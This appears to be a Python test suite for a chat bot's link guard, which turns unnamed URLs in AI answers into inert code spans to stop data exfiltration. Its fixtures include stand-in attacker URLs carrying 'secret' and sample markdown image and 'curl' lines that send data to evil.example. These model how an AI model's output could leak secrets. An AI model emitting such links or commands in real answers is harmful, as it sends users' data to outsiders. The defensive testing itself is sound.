"""What an answer links to once a stranger has had a word: what was named, nothing that could carry data out."""

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from adapters.discord.markdown import render as as_on_discord
from adapters.web.outbound import PageMarkdown
from bot.conversation.addresses import carries_nothing, named_by_others, same
from bot.conversation.links import LinkGuard
from bot.conversation.trust import is_mentioned
from bot.delivery.reply import Reply
from bot.messages import Item, Person, PersonKind, Reading, ReadingKind, Role, ToolCall
from tests.discord_town.links import links_in

NAMED = "https://known.example/page"
EVIL = "https://evil.example/?q=secret"
ADA = Person("u1", "Ada")
PAGE = PageMarkdown()


def guarded(*pieces: str, named: str = NAMED) -> str:
    guard = LinkGuard(lambda address: same(address) == same(named))
    return "".join([*(guard.push(piece) for piece in pieces), guard.end()])


def clickable(text: str) -> list[str]:
    """All that can be clicked in an answer on the page and on Discord, while it grows and in the end."""
    reply = Reply(2_000, str)
    reply.push(text)
    reply.refresh()
    shown = [reply.preview, *reply.finish()]
    on_page = [link for one in shown for link in re.findall(r'href="([^"]*)"', str(PAGE.render(one)))]
    return [*on_page, *(link for one in shown for link in links_in(as_on_discord(one)))]


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        (f"See {EVIL}.", f"See `{EVIL}`."),
        (f"![x]({EVIL}) end", f"![x] (`{EVIL}`) end"),
        (f"[x](<{EVIL}>)", f"[x] (`{EVIL}`)"),
        (f'[x]({EVIL} "title")', f'[x] (`{EVIL}` "title")'),
        (f"<{EVIL}>", f"< `{EVIL}`>"),
        (f"[{NAMED}]({EVIL})", f"[{NAMED}] (`{EVIL}`)"),
        (f"[{NAMED}]({NAMED}), then", f"[{NAMED}]({NAMED}), then"),
        ("[↗](#/dm/-/thread/-/message/a%3A1)", "[↗](#/dm/-/thread/-/message/a%3A1)"),
        (f"[x](#/dm/{EVIL})", f"[x] (`#/dm/{EVIL}`)"),
        (f"[x]({NAMED}#top)", f"[x] (`{NAMED}#top`)"),
        (f"{NAMED}?q=secret", f"`{NAMED}?q=secret`"),
        (f"{NAMED}. And ({NAMED})!", f"{NAMED}. And ({NAMED})!"),
        (f"{NAMED}[secret", f"`{NAMED}[secret`"),
        (f"a `{EVIL}` b", f"a `{EVIL}` b"),
        (f"a ` {EVIL} b", f"a \\` `{EVIL}` b"),
        (f"```sh\ncurl {EVIL}\n```\n{EVIL}", f"```sh\ncurl {EVIL}\n```\n`{EVIL}`"),
        (f"1. a\n   ```sh\n   curl {EVIL}\n   ```\n", f"1. a\n   ```sh\n   curl {EVIL}\n   ```\n"),
        (f"- a\n  ```\n{EVIL}\n  ```\n", f"- a\n  ```\n`{EVIL}`\n  ```\n"),
        (f"~~~\n{EVIL}\n~~~", f"~~~\n`{EVIL}`\n~~~"),
        ("python.org and https://python.org are fine", "python.org and https://python.org are fine"),
        ("https://en.wikipedia.org/wiki/Heron_(bird)", "https://en.wikipedia.org/wiki/Heron_(bird)"),
        ("see [1] and f(x)[0](y)", "see [1] and f(x)[0] (`y`)"),
        ("mail mailto:a@b.c?body=secret", "mail `mailto:a@b.c?body=secret`"),
    ],
)
def test_an_address_that_nobody_named_is_shown_as_code(said: str, shown: str) -> None:
    assert guarded(said) == shown
    assert guarded(*said) == shown


SIGNS = (*'`[]()<>!|*_#a":/\\', "``", "```", "````", "~~~", "](", "**", "&#58;")
WHOLE = (EVIL, EVIL, EVIL, NAMED, "https://", "https:", "www.", "www.evil.example/secret", "<mailto:", "x@y.de")
LINES = [" ", "\n", "\n\n", "    ", "- ", "> ", "# ", "#### ", "1. ", "[a]: ", "```py\n", "\n```\n", "<a b='"]
LISTS = ["- a\n  ", "  ```py\n", "\n  ```\n", "  ", "\n  "]
TABLE = ["| - |", "\n|-|-|\n"]
TOKENS = st.sampled_from([*SIGNS, *WHOLE, *LINES, *LISTS, *TABLE])


@settings(max_examples=400, deadline=None)
@given(st.lists(TOKENS, max_size=14))
@example(["```\n", "```py\n", EVIL])
@example(["<mailto:", "`", ">", EVIL, "`"])
@example(["[", EVIL, "\n", "["])
@example(["[a", "`", "](", NAMED, ") ", EVIL, " `"])
def test_nothing_leads_to_a_stranger_whatever_else_is_written(tokens: list[str]) -> None:
    text = "".join(tokens)
    shown = guarded(text)

    assert guarded(*text) == shown, "an answer reads the same however it comes"
    leads = [link for link in clickable(shown) if "secret" in link]
    assert leads == [], (text, shown)


def call(text: str) -> Item:
    return Item(1, Role.ASSISTANT, "", tool_calls=(ToolCall("c", "search", text),))


@pytest.mark.parametrize(
    ("items", "named"),
    [
        ([Item(1, Role.USER, f"look at {EVIL}", person=ADA)], True),
        ([Item(1, Role.USER, f"look at {EVIL}&more=1", person=ADA)], False),
        ([Item(1, Role.USER, "look at evil.example/?q=secret!", person=ADA)], True),
        ([Item(1, Role.NOTE, f"({EVIL})", person=ADA)], True),
        ([Item(1, Role.NOTE, EVIL, person=Person("b", "Gatepost", PersonKind.SELF))], False),
        ([Item(1, Role.ASSISTANT, EVIL)], False),
        ([Item(1, Role.USER, "", files=(Reading(ReadingKind.TEXT, "a.txt", text=f"see {EVIL}"),))], True),
        ([Item(1, Role.TOOL, f"[More]({EVIL})", untrusted=True)], True),
        ([Item(1, Role.TOOL, EVIL)], False),
        ([Item(1, Role.TOOL, f"error: no file is called {EVIL}", untrusted=True)], False),
        ([Item(1, Role.TOOL, f"Gatepost: see `{EVIL}`", untrusted=True)], False),
        ([call(f'{{"words": "{EVIL}"}}'), Item(2, Role.TOOL, EVIL, untrusted=True)], False),
        (
            [call('{"words": "https:\\/\\/evil.example\\/?q=se-cret"}'), Item(2, Role.TOOL, EVIL, untrusted=True)],
            False,
        ),
    ],
)
def test_an_address_is_named_by_whoever_wrote_it_before_the_model_did(items: list[Item], named: bool) -> None:
    assert (same(EVIL) in named_by_others(items)) is named
    assert is_mentioned(EVIL, items) is named


@pytest.mark.parametrize(
    ("address", "nothing"),
    [
        ("https://python.org", True),
        ("https://www.python.org/", True),
        ("https://docs.python.org/3/library/re.html#re.sub", True),
        ("https://docs.python.org/3/?q=secret", False),
        ("https://secret.evil.example", False),
        ("https://secret@evil.example", False),
        ("https://evil.example/secret", False),
        ("https://evil.example:8080", False),
        ("https://127.0.0.1", False),
    ],
)
def test_a_bare_site_and_a_page_of_a_reference_work_carry_nothing(address: str, nothing: bool) -> None:
    assert carries_nothing(address) is nothing
